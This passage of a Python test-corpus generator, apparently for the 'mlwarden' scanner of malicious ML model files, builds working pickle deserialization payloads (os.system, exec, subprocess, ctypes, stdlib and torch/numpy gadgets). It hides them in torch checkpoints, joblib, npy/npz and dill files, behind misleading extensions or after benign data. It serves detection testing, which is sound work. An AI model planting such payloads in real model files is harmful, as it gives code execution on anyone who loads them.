            "pandas.read_pickle(io.BytesIO(inner))",
            lambda pb, m: pb.call(
                pb.g("pandas", "read_pickle"), pb.call(pb.g("io", "BytesIO"), pb.by(_inner_pickle(m)))
            ),
            min_proto=3,
        )
    )
    add(
        P(
            "nested_joblib",
            "nested-pickle-loads",
            "joblib.load(io.BytesIO(inner))",
            lambda pb, m: pb.call(
                pb.g("joblib", "load"), pb.call(pb.g("io", "BytesIO"), pb.by(_inner_pickle(m)))
            ),
            min_proto=3,
        )
    )
    add(
        P(
            "marshal_function",
            "marshal-code",
            "types.FunctionType(marshal.loads(<code>), {})()",
            lambda pb, m: pb.call(
                pb.call(
                    pb.g("types", "FunctionType"),
                    pb.call(pb.g("marshal", "loads"), pb.by(_marshal_code(m))),
                    pb.dct(),
                )
            ),
            min_proto=3,
        )
    )
    # file-write ----------------------------------------------------------------------------------------
    add(
        P(
            "builtins_open",
            "file-write",
            "builtins.open(marker, 'w')",
            lambda pb, m: pb.call(pb.g("builtins", "open"), pb.s(m.path), pb.s("w")),
        )
    )
    add(
        P(
            "io_fileio",
            "file-write",
            "io.FileIO(marker, 'w')",
            lambda pb, m: pb.call(pb.g("io", "FileIO"), pb.s(m.path), pb.s("w")),
        )
    )
    add(
        P(
            "_io_open",
            "file-write",
            "_io.open(marker, 'a')",
            lambda pb, m: pb.call(pb.g("_io", "open"), pb.s(m.path), pb.s("a")),
        )
    )
    add(
        P(
            "shutil_copyfile",
            "file-write",
            "shutil.copyfile('/dev/null', marker)",
            lambda pb, m: pb.call(pb.g("shutil", "copyfile"), pb.s("/dev/null"), pb.s(m.path)),
        )
    )
    add(
        P(
            "pathlib_touch",
            "file-write",
            "pathlib.Path.touch(pathlib.Path(marker)) via a dotted STACK_GLOBAL",
            lambda pb, m: pb.call(
                pb.g("pathlib", "Path.touch"), pb.call(pb.g("pathlib", "Path"), pb.s(m.path))
            ),
            min_proto=4,
        )
    )
    add(
        P(
            "os_open",
            "file-write",
            "os.open(marker, O_WRONLY|O_CREAT)",
            lambda pb, m: pb.call(pb.g("os", "open"), pb.s(m.path), pb.i(0o101)),
        )
    )
    # network -------------------------------------------------------------------------------------------
    add(
        P(
            "socket_connect",
            "network",
            "socket.create_connection(('127.0.0.1', 9)) (discard port)",
            lambda pb, m: pb.call(pb.g("socket", "create_connection"), pb.tup(pb.s("127.0.0.1"), pb.i(9))),
        )
    )
    add(
        P(
            "urlopen",
            "network",
            "urllib.request.urlopen('http://127.0.0.1:9/mlwarden')",
            lambda pb, m: pb.call(pb.g("urllib.request", "urlopen"), pb.s("http://127.0.0.1:9/mlwarden")),
        )
    )
    add(
        P(
            "webbrowser_open",
            "network",
            "webbrowser.open('http://127.0.0.1:9/')",
            lambda pb, m: pb.call(pb.g("webbrowser", "open"), pb.s("http://127.0.0.1:9/")),
            fires=False,  # only raises its audit event when a browser is registered
        )
    )
    add(
        P(
            "smtplib",
            "network",
            "smtplib.SMTP('127.0.0.1', 9)",
            lambda pb, m: pb.call(pb.g("smtplib", "SMTP"), pb.s("127.0.0.1"), pb.i(9)),
        )
    )
    # ml-gadget / stdlib gadgets ------------------------------------------------------------------------
    add(
        P(
            "numpy_runstring",
            "ml-gadget",
            "numpy.testing._private.utils.runstring(src, {}) (exec gadget)",
            lambda pb, m: pb.call(pb.g("numpy.testing._private.utils", "runstring"), pb.s(m.pysrc), pb.dct()),
        )
    )
    add(
        P(
            "torch_collect_env_run",
            "ml-gadget",
            "torch.utils.collect_env.run(cmd) (shell=True Popen gadget)",
            lambda pb, m: pb.call(pb.g("torch.utils.collect_env", "run"), pb.s(m.cmd)),
        )
    )
    add(
        P(
            "torch_hub_load",
            "ml-gadget",
            "torch.hub.load('mlwarden-example/does-not-exist', 'model') (downloads and runs hubconf.py)",
            lambda pb, m: pb.call(
                pb.g("torch.hub", "load"), pb.s("mlwarden-example/does-not-exist"), pb.s("model")
            ),
            fires=False,
        )
    )
    add(
        P(
            "runpy_run_code",
            "ml-gadget",
            "runpy._run_code(src, {})",
            lambda pb, m: pb.call(pb.g("runpy", "_run_code"), pb.s(m.pysrc), pb.dct()),
        )
    )
    add(
        P(
            "code_interpreter",
            "ml-gadget",
            "code.InteractiveInterpreter().runsource(src)",
            lambda pb, m: pb.call(
                pb.getattr(pb.call(pb.g("code", "InteractiveInterpreter")), "runsource"), pb.s(m.pysrc)
            ),
        )
    )
    add(
        P(
            "timeit",
            "ml-gadget",
            "timeit.timeit(src, 'pass', time.perf_counter, 1)",
            lambda pb, m: pb.call(
                pb.g("timeit", "timeit"), pb.s(m.pysrc), pb.s("pass"), pb.g("time", "perf_counter"), pb.i(1)
            ),
        )
    )
    add(
        P(
            "bdb_run",
            "ml-gadget",
            "bdb.Bdb().run(src)",
            lambda pb, m: pb.call(pb.getattr(pb.call(pb.g("bdb", "Bdb")), "run"), pb.s(m.pysrc)),
        )
    )
    add(
        P(
            "cprofile_run",
            "ml-gadget",
            "cProfile.run(src)",
            lambda pb, m: pb.call(pb.g("cProfile", "run"), pb.s(m.pysrc)),
        )
    )
    add(
        P(
            "profile_run",
            "ml-gadget",
            "profile.run(src)",
            lambda pb, m: pb.call(pb.g("profile", "run"), pb.s(m.pysrc)),
        )
    )
    add(
        P(
            "trace_runctx",
            "ml-gadget",
            "trace.Trace().runctx(src, {}, {})",
            lambda pb, m: pb.call(
                pb.getattr(pb.call(pb.g("trace", "Trace")), "runctx"), pb.s(m.pysrc), pb.dct(), pb.dct()
            ),
        )
    )
    add(
        P(
            "logging_listen",
            "ml-gadget",
            "logging.config.listen(9) (config server that evals received config)",
            lambda pb, m: pb.call(pb.g("logging.config", "listen"), pb.i(9)),
            fires=False,  # builds the listener thread; starting it is left out to stay harmless
        )
    )
    add(
        P(
            "pydoc_pipepager",
            "ml-gadget",
            "pydoc.pipepager('', cmd) (runs cmd through a shell)",
            lambda pb, m: pb.call(pb.g("pydoc", "pipepager"), pb.s(""), pb.s(m.cmd)),
        )
    )
    add(
        P(
            "asyncio_shell",
            "ml-gadget",
            "asyncio.run(asyncio.create_subprocess_shell(cmd))",
            lambda pb, m: pb.call(
                pb.g("asyncio", "run"), pb.call(pb.g("asyncio", "create_subprocess_shell"), pb.s(m.cmd))
            ),
        )
    )
    add(
        P(
            "multiprocessing_process",
            "ml-gadget",
            "multiprocessing.Process(None, os.system, None, (cmd,)).start()",
            lambda pb, m: pb.call(
                pb.getattr(
                    pb.call(
                        pb.g("multiprocessing", "Process"),
                        pb.none(),
                        pb.g("os", "system"),
                        pb.none(),
                        pb.tup(pb.s(m.cmd)),
                    ),
                    "start",
                )
            ),
        )
    )
    add(
        P(
            "ctypes_libc_system",
            "ml-gadget",
            "ctypes.CDLL(None).system(b'cmd')",
            lambda pb, m: pb.call(
                pb.getattr(pb.call(pb.g("ctypes", "CDLL"), pb.none()), "system"), pb.by(m.cmd.encode())
            ),
            min_proto=3,
        )
    )
    add(
        P(
            "methodcaller",
            "ml-gadget",
            "operator.methodcaller('system', cmd)(__import__('os'))",
            lambda pb, m: pb.call(
                pb.call(pb.g("operator", "methodcaller"), pb.s("system"), pb.s(m.cmd)), pb.imp("os")
            ),
        )
    )
    add(
        P(
            "functools_partial",
            "ml-gadget",
            "functools.partial(os.system, cmd)()",
            lambda pb, m: pb.call(pb.call(pb.g("functools", "partial"), pb.g("os", "system"), pb.s(m.cmd))),
        )
    )
    add(
        P(
            "importlib_import_module",
            "ml-gadget",
            "importlib.import_module('os') then getattr system",
            lambda pb, m: pb.call(
                pb.getattr(pb.call(pb.g("importlib", "import_module"), pb.s("os")), "system"), pb.s(m.cmd)
            ),
        )
    )
    return out


def payload_body(p: Payload, proto: int, m: Marker) -> bytes:
    return p.build(PB(proto), m)


def payload_pickle(p: Payload, proto: int, m: Marker, *, frame: bool = True) -> bytes:
    pb = PB(proto)
    return pb.wrap(p.build(pb, m), frame=frame)


def protos_for(p: Payload) -> list[int]:
    return list(range(p.min_proto, p.max_proto + 1))


class ReduceSystem:
    """Classic __reduce__ payload; pickle.dumps emits posix.system (os.system's real module)."""

    def __init__(self, cmd: str) -> None:
        self.cmd = cmd

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return (os.system, (self.cmd,))


class ReduceExec:
    def __init__(self, src: str) -> None:
        self.src = src

    def __reduce__(self) -> tuple[Any, ...]:
        import builtins

        return (builtins.exec, (self.src,))


class ReduceSubprocess:
    def __init__(self, argv: list[str]) -> None:
        self.argv = argv

    def __reduce__(self) -> tuple[Any, ...]:
        import subprocess

        return (subprocess.call, (self.argv,))


# ---------------------------------------------------------------------------------------------------------
# Torch models (registered under a stable module name so whole-module pickles are deterministic)
# ---------------------------------------------------------------------------------------------------------


def torch_models() -> types.ModuleType:
    if MODELS_MODULE in sys.modules:
        return sys.modules[MODELS_MODULE]
    import torch
    from torch import nn

    mod = types.ModuleType(MODELS_MODULE, "Harmless model classes used by the mlwarden corpus generator.")

    class MLP(nn.Module):
        def __init__(self, d_in: int = 32, hidden: int = 64, d_out: int = 10) -> None:
            super().__init__()
            self.net = nn.Sequential(
                nn.Linear(d_in, hidden), nn.ReLU(), nn.Dropout(0.1), nn.Linear(hidden, d_out)
            )

        def forward(self, x: Any) -> Any:
            return self.net(x)

    class SmallCNN(nn.Module):
        def __init__(self, classes: int = 10) -> None:
            super().__init__()
            self.features = nn.Sequential(
                nn.Conv2d(3, 16, 3, padding=1),
                nn.BatchNorm2d(16),
                nn.ReLU(),
                nn.MaxPool2d(2),
                nn.Conv2d(16, 32, 3, padding=1),
                nn.BatchNorm2d(32),
                nn.ReLU(),
                nn.AdaptiveAvgPool2d(1),
            )
            self.head = nn.Linear(32, classes)

        def forward(self, x: Any) -> Any:
            return self.head(torch.flatten(self.features(x), 1))

    class TinyTransformer(nn.Module):
        def __init__(self, vocab: int = 500, d_model: int = 64, layers: int = 2) -> None:
            super().__init__()
            self.embed = nn.Embedding(vocab, d_model)
            self.pos = nn.Parameter(torch.zeros(1, 64, d_model))
            layer = nn.TransformerEncoderLayer(d_model, 4, 128, batch_first=True)
            self.encoder = nn.TransformerEncoder(layer, layers, enable_nested_tensor=False)
            self.lm_head = nn.Linear(d_model, vocab, bias=False)

        def forward(self, ids: Any) -> Any:
            return self.lm_head(self.encoder(self.embed(ids) + self.pos[:, : ids.shape[1]]))

    class LSTMTagger(nn.Module):
        def __init__(self, vocab: int = 300, emb: int = 32, hidden: int = 48, tags: int = 12) -> None:
            super().__init__()
            self.embed = nn.Embedding(vocab, emb)
            self.lstm = nn.LSTM(emb, hidden, num_layers=2, batch_first=True, bidirectional=True)
            self.out = nn.Linear(2 * hidden, tags)

        def forward(self, ids: Any) -> Any:
            return self.out(self.lstm(self.embed(ids))[0])

    class GRUClassifier(nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.gru = nn.GRU(16, 32, batch_first=True)
            self.norm = nn.LayerNorm(32)
            self.fc = nn.Linear(32, 4)

        def forward(self, x: Any) -> Any:
            return self.fc(self.norm(self.gru(x)[0][:, -1]))

    class ResBlockNet(nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.stem = nn.Conv2d(1, 8, 3, padding=1)
            self.block = nn.Sequential(
                nn.Conv2d(8, 8, 3, padding=1), nn.GroupNorm(2, 8), nn.GELU(), nn.Conv2d(8, 8, 3, padding=1)
            )
            self.pool = nn.AdaptiveMaxPool2d(1)
            self.fc = nn.Linear(8, 2)

        def forward(self, x: Any) -> Any:
            h = self.stem(x)
            return self.fc(torch.flatten(self.pool(h + self.block(h)), 1))

    for cls in (MLP, SmallCNN, TinyTransformer, LSTMTagger, GRUClassifier, ResBlockNet):
        cls.__module__ = MODELS_MODULE
        cls.__qualname__ = cls.__name__
        setattr(mod, cls.__name__, cls)
    sys.modules[MODELS_MODULE] = mod
    return mod


def _intern_module_strings(obj: Any) -> None:
    """Pickle memoizes by object identity, so whether two equal names (a _parameters key and its copy in
    an RNN's _flat_weights_names) share a memo slot depends on interning history. Intern every name."""
    from torch import nn

    if not isinstance(obj, nn.Module):
        return

    def canon(value: Any) -> Any:
        if isinstance(value, str):
            return sys.intern(value)
        if isinstance(value, list):
            return [canon(v) for v in value]
        return value

    for mod in obj.modules():
        for attr in ("_parameters", "_buffers", "_modules"):
            d = mod.__dict__.get(attr)
            if isinstance(d, dict):
                items = [(sys.intern(k), v) for k, v in d.items()]
                d.clear()
                d.update(items)
        for key, value in list(mod.__dict__.items()):
            if isinstance(value, list):
                mod.__dict__[key] = canon(value)


def torch_save_bytes(obj: Any, *, legacy: bool = False, protocol: int = 2) -> bytes:
    import torch

    _intern_module_strings(obj)

    buf = io.BytesIO()
    torch.save(obj, buf, pickle_protocol=protocol, _use_new_zipfile_serialization=not legacy)
    data = buf.getvalue()
    return _stable_legacy_keys(data) if legacy else data


_STORAGE_ITEMSIZE = {
    "Double": 8,
    "Float": 4,
    "Half": 2,
    "BFloat16": 2,
    "Long": 8,
    "Int": 4,
    "Short": 2,
    "Char": 1,
    "Byte": 1,
    "Bool": 1,
    "ComplexFloat": 8,
    "ComplexDouble": 16,
}


def _stable_legacy_keys(data: bytes) -> bytes:
    """Legacy torch.save names storages by memory address and writes them sorted by that name.

    Rename them "0", "1", ... in order of first use in the object pickle and reorder the raw storage
    records to match, so the file is reproducible and still loads with torch.load.
    """
    spans = pickle_boundaries(data, 5)
    ks, ke = spans[4]
    old_keys = [arg for _op, arg, _ in pickletools.genops(data[ks:ke]) if isinstance(arg, str)]
    os_, oe = spans[3]
    itemsize: dict[str, int] = {}
    order: list[str] = []
    last_global = ""
    memo: dict[Any, str] = {}
    prev = ""
    for op, arg, _ in pickletools.genops(data[os_:oe]):
        if op.name in ("BINPUT", "LONG_BINPUT", "PUT") and prev == "GLOBAL":
            memo[arg] = last_global
        prev = op.name
        if op.name == "GLOBAL":
            last_global = str(arg)
        elif op.name in ("BINGET", "LONG_BINGET", "GET") and arg in memo:
            last_global = memo[arg]
        elif isinstance(arg, str) and arg in old_keys and arg not in itemsize:
            kind = last_global.rsplit(" ", 1)[-1].removesuffix("Storage")
            itemsize[arg] = _STORAGE_ITEMSIZE.get(kind, 1)
            order.append(arg)
    if sorted(order) != sorted(old_keys):
        return data  # unexpected layout: leave as is
    records: dict[str, bytes] = {}
    pos = ke
    for key in old_keys:
        (count,) = struct.unpack_from("<q", data, pos)
        size = 8 + count * itemsize[key]
        records[key] = data[pos : pos + size]
        pos += size
    rename = {k: str(i) for i, k in enumerate(order)}
    obj = data[os_:oe]
    for k, v in rename.items():
        obj = obj.replace(
            b"X" + struct.pack("<I", len(k)) + k.encode(), b"X" + struct.pack("<I", len(v)) + v.encode()
        )
    keys_pickle = pickle.dumps([rename[k] for k in order], protocol=2)
    return data[:os_] + obj + keys_pickle + b"".join(records[k] for k in order) + data[pos:]


def torch_zip_replace(
    src: bytes,
    *,
    replace: dict[str, bytes] | None = None,
    add: Sequence[tuple[str, bytes]] = (),
    prefix: str | None = None,
    compress: bool = False,
) -> bytes:
    """Rewrite a torch zip: replace members (by name without the archive prefix), rename the prefix, add."""
    replace = replace or {}
    out = []
    for name, data in zip_members(src):
        old_prefix, _, rest = name.partition("/")
        new_name = f"{prefix if prefix is not None else old_prefix}/{rest}"
        out.append((new_name, replace.get(rest, data)))
    pre = prefix if prefix is not None else zip_members(src)[0][0].partition("/")[0]
    out.extend((f"{pre}/{n}", d) for n, d in add)
    return zip_bytes(out, compress=compress)


def torch_zip_data_pkl(src: bytes) -> bytes:
    for name, data in zip_members(src):
        if name.endswith("/data.pkl"):
            return data
    raise KeyError("data.pkl")


# ---------------------------------------------------------------------------------------------------------
# MALICIOUS
# ---------------------------------------------------------------------------------------------------------

RAW_EXTS = [".pkl", ".pickle", ".bin", ".pt", ".pth", ".ckpt", "", ".p", ".dat", ".model", ".sav", ".data"]


def gen_malicious(ctx: Ctx) -> None:
    import numpy as np
    import torch

    m = Marker(ctx.marker)
    models = torch_models()
    pls = payloads()
    by_key = {p.key: p for p in pls}
    canonical = by_key["os_system"]

    torch.manual_seed(ctx.seed)
    base_sd = models.MLP().state_dict()
    base_zip = torch_save_bytes(base_sd)
    base_pkl = torch_zip_data_pkl(base_zip)

    def inj(p: Payload, original: bytes = base_pkl, proto: int = 2) -> bytes:
        return inject(original, payload_body(p, pp(p, proto), m), pp(p, proto))

    def fireable(min_proto: int = 0, max_proto: int = 5) -> list[Payload]:
        return [p for p in pls if p.fires and p.min_proto <= max_proto and p.max_proto >= min_proto]

    # inner payloads for nested techniques
    INNER["torch_zip"] = torch_zip_replace(base_zip, replace={"data.pkl": inj(canonical)})
    INNER["npy"] = npy_header("|O", (1,)) + payload_pickle(canonical, 3, m)

    def W(rel: str, data: bytes, family: str, fmt: str, desc: str, technique: str) -> None:  # noqa: N802
        ctx.write("malicious", rel, data, family, fmt, desc, technique=technique)

    # 1. raw pickles: every technique at one or more protocols ------------------------------------------
    ext_cycle = 0
    for p in pls:
        protos = protos_for(p)
        if ctx.full:  # lowest, highest and one random protocol in between
            chosen = sorted({protos[0], protos[-1], *ctx.rng.sample(protos, 1)})
        else:  # one protocol, cycling so that every protocol appears
            chosen = [protos[ext_cycle % len(protos)]]
        for proto in chosen:
            ext = RAW_EXTS[ext_cycle % len(RAW_EXTS)]
            ext_cycle += 1
            data = payload_pickle(p, proto, m, frame=bool(ctx.rng.getrandbits(1)) or proto < 4)
            W(
                f"pickle/{p.family}/{p.key}-p{proto}{ext}",
                data,
                p.family,
                "pickle",
                f"{p.description} (protocol {proto}{'' if p.fires else '; needs external state to fire'})",
                p.family,
            )

    # 2. pickler-generated payloads (__reduce__ classes) at every protocol ------------------------------
    for proto in range(6):
        for cls, arg, fam in (
            (ReduceSystem, m.cmd, "os-system"),
            (ReduceExec, m.pysrc, "builtins-eval-exec"),
            (ReduceSubprocess, m.argv, "subprocess"),
        ):
            if not ctx.full and proto not in (0, 2, 4, 5):
                continue
            W(
                f"pickle/reduce-class/{cls.__name__.lower()}-p{proto}.pkl",
                pickle.dumps(cls(arg), protocol=proto),
                fam,
                "pickle",
                f"pickle.dumps of a __reduce__ class -> {fam} (protocol {proto})",
                fam,
            )

    # 3. EXT opcodes emitted by the real pickler after copyreg.add_extension ----------------------------
    import copyreg
    import os

    for code in (0x42, 0x4242, 0x424242):
        copyreg.add_extension("posix", "system", code)
        try:
            data = pickle.dumps(ReduceSystem(m.cmd), protocol=2)
        finally:
            copyreg.remove_extension("posix", "system", code)
        W(
            f"pickle/ext-copyreg/pickler-ext-{code:x}.pkl",
            data,
            "ext-copyreg",
            "pickle",
            f"real pickler output with posix.system registered as extension {code:#x} (EXT opcode; needs the "
            "same registry at load)",
            "ext-copyreg",
        )
    del os

    # 4. protocol0-text, multiple-pickles, data-after-stop, truncated-after-payload --------------------
    for p in ctx.pick(
        [
            by_key[k]
            for k in (
                "os_system",
                "inst_os_system",
                "builtins_exec",
                "subprocess_call",
                "getattr_import_os",
                "memo_text",
            )
        ],
        3,
    ):
        W(
            f"pickle/protocol0-text/{p.key}.txt",
            payload_pickle(p, 0, m),
            "protocol0-text",
            "pickle",
            f"protocol-0 text pickle with a .txt extension: {p.description}",
            p.family,
        )
    benign_first = pickle.dumps({"epoch": 3, "loss": 0.125, "classes": ["cat", "dog"]}, protocol=2)
    for i, p in enumerate(ctx.pick(fireable(2), 4, 10)):
        W(
            f"pickle/multiple-pickles/benign-then-{p.key}.pkl",
            benign_first + payload_pickle(p, pp(p, 2), m),
            "multiple-pickles",
            "pickle",
            f"benign pickle followed by a second pickle: {p.description}",
            p.family,
        )
        if i < 3:
            W(
                f"pickle/multiple-pickles/three-{p.key}.pkl",
                benign_first + pickle.dumps([1, 2, 3], protocol=4) + payload_pickle(p, pp(p, 4), m),
                "multiple-pickles",
                "pickle",
                f"two benign pickles then {p.description}",
                p.family,
            )
    for p in ctx.pick(fireable(2), 3, 8):
        junk = ctx.rng.randbytes(ctx.rng.randint(16, 200))
        W(
            f"pickle/data-after-stop/{p.key}.pkl",
            benign_first + junk + payload_pickle(p, pp(p, 2), m),
            "data-after-stop",
            "pickle",
            f"benign pickle, junk bytes, then {p.description}",
            p.family,
        )
        if p.min_proto <= 2:  # without PROTO the unpickler runs at protocol 0 (no dotted names)
            W(
                f"pickle/data-after-stop/{p.key}-no-proto.pkl",
                benign_first + payload_body(p, 2, m) + b".",
                "data-after-stop",
                "pickle",
                f"opcodes after STOP with no PROTO header: {p.description}",
                p.family,
            )
    for p in ctx.pick(fireable(2), 2, 6):
        body = payload_body(p, pp(p, 2), m)
        W(
            f"pickle/truncated-after-payload/{p.key}.pkl",
            b"\x80" + bytes([pp(p, 2)]) + body + b"0" + b"}q\x00(X\x03\x00\x00\x00ab",
            "truncated-after-payload",
            "pickle",
            f"payload REDUCE completes, then the stream is cut: {p.description}",
            p.family,
        )

    # 5. misleading extensions ---------------------------------------------------------------------------
    mis = [
        (
            ".npy",
            "pickle",
            "a .npy that is really a pickle (np.load(allow_pickle=True) falls back to pickle)",
        ),
        (".safetensors", "torch-zip", "a .safetensors that is a PyTorch zip with a malicious data.pkl"),
        (".onnx", "pickle", "a .onnx that is a pickle"),
        (".h5", "pickle", "a .h5 that is a pickle"),
        (".json", "pickle", "a .json that is a protocol-0 pickle"),
        (".gguf", "pickle", "a .gguf that is a pickle"),
        (".txt", "pickle", "a .txt that is a pickle"),
        (".msgpack", "torch-zip", "a .msgpack that is a torch zip"),
        (".tflite", "pickle", "a .tflite that is a pickle"),
        (".png", "torch-zip", "a .png that is a torch zip"),
    ]
    for i, (ext, kind, desc) in enumerate(ctx.pick(mis, 5)):
        p = ctx.pick(fireable(2), 1, 1)[0] if i else canonical
        proto = 0 if ext == ".json" and p.min_proto == 0 else pp(p, 2)
        data = (
            payload_pickle(p, proto, m)
            if kind == "pickle"
            else torch_zip_replace(base_zip, replace={"data.pkl": inj(p)})
        )
        W(
            f"misleading-extension/model-{i}{ext}",
            data,
            "misleading-extension",
            kind,
            f"{desc}: {p.description}",
            p.family,
        )

    # 6. torch zip --------------------------------------------------------------------------------------
    tz_payloads = ctx.pick(fireable(2, 5), 6, 24)
    prefixes = [
        "archive",
        "model",
        "pytorch_model",
        "weird name",
        "モデル",
        "x" * 120,
        "archive.v2",
        "..",
        "_",
    ]
    tz_exts = [".pt", ".pth", ".bin", ".ckpt", "", ".model", ".zip", ".pt.tar"]
    for i, p in enumerate(tz_payloads):
        variant = i % 6
        prefix = prefixes[i % len(prefixes)] if variant in (1, 5) else "archive"
        ext = tz_exts[i % len(tz_exts)]
        if variant == 0:
            data = torch_zip_replace(base_zip, replace={"data.pkl": inj(p)})
            desc = "torch.save state_dict; payload injected before the original data.pkl opcodes"
        elif variant == 1:
            data = torch_zip_replace(
                base_zip, replace={"data.pkl": payload_pickle(p, pp(p, 2), m)}, prefix=prefix
            )
            desc = f"data.pkl replaced by a bare payload; archive folder renamed to {prefix[:20]!r}"
        elif variant == 2:
            data = torch_zip_replace(base_zip, add=[("extra/optimizer.pkl", payload_pickle(p, pp(p, 2), m))])
            desc = (
                "extra member extra/optimizer.pkl holds the payload "
                "(torch.load never reads it; other tools might)"
            )
        elif variant == 3:
            data = torch_zip_replace(
                base_zip,
                add=[
                    ("constants.pkl", payload_pickle(p, pp(p, 2), m)),
                    ("data/evil.pkl", payload_pickle(p, pp(p, 4), m)),
                ],
            )
            desc = (
                "benign data.pkl plus constants.pkl and data/evil.pkl payload pickles (constants.pkl makes "
                "torch.load take the TorchScript path, which rejects these globals)"
            )
        elif variant == 4:
            data = torch_zip_replace(base_zip, replace={"data.pkl": inj(p)}, compress=True)
            desc = "deflate-compressed members; injected data.pkl"
        else:
            data = torch_zip_replace(
                base_zip,
                replace={"data.pkl": inj(p)},
                prefix=prefix,
                add=[("code/__torch__/model.py", b"def forward(self, x):\n    return x\n")],
            )
            desc = f"TorchScript-looking code/ member, injected data.pkl, folder {prefix[:20]!r}"
        W(
            f"torch-zip/{p.key}-v{variant}{ext}",
            data,
            "torch-zip",
            "torch-zip",
            f"{desc}: {p.description}",
            p.family,
        )
    # real torch.save of an object carrying a __reduce__ payload
    for i, (obj, fam) in enumerate(
        ((ReduceSystem(m.cmd), "os-system"), (ReduceExec(m.pysrc), "builtins-eval-exec"))
    ):
        state = collections.OrderedDict(base_sd)
        state["_metadata_hook"] = obj  # type: ignore[assignment]
        W(
            f"torch-zip/torch-save-reduce-{i}.pt",
            torch_save_bytes(state),
            "torch-zip",
            "torch-zip",
            "torch.save of a state_dict that also holds a __reduce__ payload object",
            fam,
        )

    # 7. torch legacy -----------------------------------------------------------------------------------
    legacy = torch_save_bytes(base_sd, legacy=True)
    spans = pickle_boundaries(legacy)
    assert len(spans) >= 5, spans
    for i, p in enumerate(ctx.pick(fireable(2, 5), 4, 14)):
        which = [3, 0, 2, 4][i % 4]
        s, e = spans[which]
        new_pickle = inject(legacy[s:e], payload_body(p, pp(p, 2), m), pp(p, 2))
        data = legacy[:s] + new_pickle + legacy[e:]
        part = {0: "magic-number", 2: "sys_info", 3: "object", 4: "storage-keys"}[which]
        ext = [".pt", ".pth", ".bin", ""][i % 4]
        W(
            f"torch-legacy/{p.key}-{part}{ext}",
            data,
            "torch-legacy",
            "torch-legacy",
            f"legacy (non-zip) torch.save; payload injected into the {part} pickle: {p.description}",
            p.family,
        )
    for i, p in enumerate(ctx.pick(fireable(2, 5), 2, 4)):
        members = [
            (
                "sys_info",
                pickle.dumps(
                    {
                        "protocol_version": 1001,
                        "little_endian": True,
                        "type_sizes": {"short": 2, "int": 4, "long": 4},
                    },
                    protocol=2,
                ),
            ),
            ("storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)),
            ("tensors", pickle.dumps(0, protocol=2)),
            ("pickle", payload_pickle(p, pp(p, 2), m) if i % 2 == 0 else pickle.dumps({}, protocol=2)),
        ]
        if i % 2:
            members[1] = ("storages", payload_pickle(p, pp(p, 2), m) + pickle.dumps([], protocol=2))
        W(
            f"torch-legacy/tar-{p.key}.pt",
            tar_bytes(members),
            "torch-legacy",
            "torch-legacy-tar",
            "pre-1.0 tar-format torch checkpoint with the payload in "
            f"'{members[3 if i % 2 == 0 else 1][0]}': {p.description}",
            p.family,
        )

    # 8. joblib -----------------------------------------------------------------------------------------
    import joblib

    jb_dir = ctx.root / ".tmp-joblib"
    jb_dir.mkdir(exist_ok=True)

    def joblib_bytes(obj: Any, compress: Any) -> bytes:
        path = jb_dir / "x.joblib"
        joblib.dump(obj, path, compress=compress)
        data = path.read_bytes()
        path.unlink()
        return data

    rs = np.random.default_rng(ctx.seed)
    for method in ("zlib", "gzip", "bz2", "lzma", "xz", "lz4"):
        for level in [3] if not ctx.full else [1, 9]:
            obj = {
                "coef": rs.standard_normal((8, 4)),
                "intercept": rs.standard_normal(4),
                "hook": ReduceSystem(m.cmd),
            }
            W(
                f"joblib/real-{method}-{level}.joblib",
                joblib_bytes(obj, (method, level)),
                "joblib-compressed",
                f"joblib-{method}",
                f"joblib.dump(compress=('{method}', {level})) of numpy arrays plus a __reduce__ payload",
                "os-system",
            )
    W(
        "joblib/real-plain.joblib",
        joblib_bytes({"w": rs.standard_normal(16), "hook": ReduceExec(m.pysrc)}, 0),
        "joblib",
        "joblib",
        "uncompressed joblib.dump with numpy arrays plus a __reduce__ exec payload",
        "builtins-eval-exec",
    )
    W(
        "joblib/object-array.joblib",
        joblib_bytes(np.array([ReduceSystem(m.cmd), 1], dtype=object), 0),
        "joblib",
        "joblib",
        "joblib.dump of an object-dtype array whose element pickles to os.system",
        "os-system",
    )
    jb_dir.rmdir()
    import lz4.frame

    compressors: list[tuple[str, Callable[[bytes], bytes]]] = [
        ("zlib", zlib.compress),
        ("gzip", gzip_bytes),
        ("bz2", bz2.compress),
        ("xz", lzma.compress),
        ("lzma", lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE)),
        ("lz4", lz4.frame.compress),
    ]
    for i, p in enumerate(ctx.pick(fireable(2, 5), 6, 18)):
        name, fn = compressors[i % len(compressors)]
        W(
            f"joblib/raw-{name}-{p.key}.joblib",
            fn(payload_pickle(p, pp(p, 2), m)),
            "joblib-compressed",
            f"joblib-{name}",
            f"hand-built payload pickle, {name}-compressed like joblib does: {p.description}",
            p.family,
        )

    # 9. numpy object arrays ----------------------------------------------------------------------------
    W(
        "numpy/np-save-object.npy",
        npy_save_bytes(np.array([ReduceSystem(m.cmd), "x"], dtype=object), True),
        "numpy-object-array",
        "npy",
        "np.save of an object array holding a __reduce__ os.system payload",
        "os-system",
    )
    W(
        "numpy/np-savez-object.npz",
        npz_bytes(
            {
                "weights": rs.standard_normal(10).astype(np.float32),
                "meta": np.array([ReduceExec(m.pysrc)], dtype=object),
            },
            allow_pickle=True,
        ),
        "numpy-object-array",
        "npz",
        "npz with a numeric array plus an object array whose pickle calls exec",
        "builtins-eval-exec",
    )
    for i, p in enumerate(ctx.pick(fireable(2, 5), 5, 16)):
        proto = pp(p, 3)
        arr = npy_header("|O", (2, 2) if i % 2 else (1,), fortran=i % 3 == 0) + payload_pickle(p, proto, m)
        if i % 3 == 2:
            data = zip_bytes(
                [("x.npy", npy_save_bytes(rs.standard_normal(4))), ("y.npy", arr)], compress=i % 2 == 0
            )
            W(
                f"numpy/npz-{p.key}.npz",
                data,
                "numpy-object-array",
                "npz",
                f"npz whose y.npy object-array pickle is: {p.description}",
                p.family,
            )
        else:
            W(
                f"numpy/npy-{p.key}.npy",
                arr,
                "numpy-object-array",
                "npy",
                f"hand-built |O .npy whose embedded pickle is: {p.description}",
                p.family,
            )

    # 10. dill ------------------------------------------------------------------------------------------
    import dill

    W(
        "dill/reduce-system.dill",
        dill.dumps(ReduceSystem(m.cmd)),
        "dill",
        "dill",
        "dill.dumps of a __reduce__ os.system payload",
        "os-system",
    )
